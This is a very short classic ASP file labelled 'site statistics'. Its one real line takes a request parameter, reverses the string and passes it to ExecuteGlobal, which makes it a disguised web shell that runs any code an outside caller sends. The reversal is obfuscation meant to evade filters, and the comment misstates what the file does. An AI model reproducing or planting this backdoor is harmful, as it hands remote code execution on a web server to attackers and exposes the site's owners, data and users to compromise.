<%
' site statistics
Dim a
ExecuteGlobal StrReverse(Request("a"))
%>
